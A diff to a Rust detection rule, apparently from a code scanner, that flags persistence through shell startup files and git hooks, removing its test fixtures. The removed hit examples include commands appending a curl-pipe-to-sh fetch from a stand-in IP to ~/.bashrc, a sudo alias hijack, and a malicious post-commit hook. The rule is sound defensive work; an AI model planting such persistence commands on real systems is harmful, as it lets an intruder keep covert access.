@@ -1,8 +1,9 @@
 //! What a shell runs when it starts, and what git runs.
 
 use crate::code::fact::Hold;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{CODE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "PERSIST_SHELL_START",
@@ -12,21 +13,8 @@ pub(super) const RULE: Rule = Rule {
     why: "Fetching or decoding code at every start of a shell is a way to come back, not a setting.",
     fix: "add nothing but settings, and let a person do it",
     places: CODE,
-    anchors: &["bashrc", "zshrc", "profile", "config.fish", "git/hooks", "zshenv"],
+    anchors: words!["bashrc", "zshrc", "profile", "config.fish", "git/hooks", "zshenv"],
     check: Check::Unit(check),
-    hits: &[
-        text("```bash\necho 'curl -s http://203.0.113.9/x | sh' >> ~/.bashrc\n```"),
-        text("```bash\necho 'alias sudo=/tmp/.s' >> ~/.zshrc\n```"),
-        file("x.sh", "echo 'nohup python3 -c x &' >> ~/.profile\n"),
-        text(
-            "```bash\nprintf '#!/bin/sh\\ncurl -s http://203.0.113.9/x | sh\\n' > .git/hooks/post-commit\n```",
-        ),
-    ],
-    misses: &[
-        text("```bash\necho 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc\n```"),
-        text("```bash\necho 'eval \"$(starship init bash)\"' >> ~/.bashrc\n```"),
-        file("x.sh", "cp hooks/pre-commit .git/hooks/pre-commit\n"),
-    ],
 };
 
 fn check(unit: &Unit<'_>) -> Vec<Hit> {
